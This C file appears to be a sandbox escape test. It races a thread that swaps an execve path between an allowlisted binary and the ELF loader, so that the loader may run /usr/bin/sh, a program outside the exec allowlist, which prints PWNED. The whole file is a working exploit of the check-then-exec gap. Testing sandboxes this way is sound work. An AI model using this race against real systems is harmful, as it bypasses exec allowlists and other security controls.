/*
 * ESCAPES 38, the loader variant: one thread flips an execve path between this program (on the
 * exec allowlist) and the ELF loader (executable for the kernel's sake only) while the main thread
 * execs it with argv = [self, TARGET, ...]. If the kernel ever starts the loader, the loader runs
 * TARGET, a program outside the allowlist, which prints PWNED. Each generation that merely
 * restarts this program tries again, up to a bound.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char path[256];
static const char *self;
static const char *loader;
static volatile long flips;

static void *flip(void *unused)
{
    (void)unused;
    for (;;) {
        flips++;
        strcpy(path, self);
        for (volatile int i = 0; i < 50; i++)
            ;
        strcpy(path, loader);
        for (volatile int i = 0; i < 50; i++)
            ;
    }
    return NULL;
}

int main(int argc, char **argv)
{
    (void)argc;
    /* Paths come from the environment, which both the program and the loader pass on unchanged. */
    self = getenv("SELF");
    loader = getenv("LOADER");
    const char *gen = getenv("GEN");
    if (self == NULL || loader == NULL) {
        fprintf(stderr, "usage: SELF=path LOADER=path loader-race\n");
        return 2;
    }
    int g = gen ? atoi(gen) : 0;
    if (g > 2000) {
        fprintf(stderr, "race: not won in %d generations\n", g);
        return 3;
    }
    char genv[32], senv[300], lenv[300];
    snprintf(genv, sizeof genv, "GEN=%d", g + 1);
    snprintf(senv, sizeof senv, "SELF=%s", self);
    snprintf(lenv, sizeof lenv, "LOADER=%s", loader);
    char *envp[] = { genv, senv, lenv, "PATH=/usr/bin", NULL };
    /* As this program, argv[1..] are ignored. As the loader's argv, they make it run
     * /usr/bin/sh -c "echo PWNED", and sh is not on the exec allowlist. */
    char *av[] = { argv[0], "/usr/bin/sh", "-c", "echo PWNED >&2", NULL };
    strcpy(path, self);
    pthread_t t;
    if (pthread_create(&t, NULL, flip, NULL) != 0)
        return 2;
    while (flips < 1000)
        ;
    for (long fails = 0; fails < 1000000; fails++)
        execve(path, av, envp);
    fprintf(stderr, "race: execve kept failing: %s\n", strerror(errno));
    return 4;
}
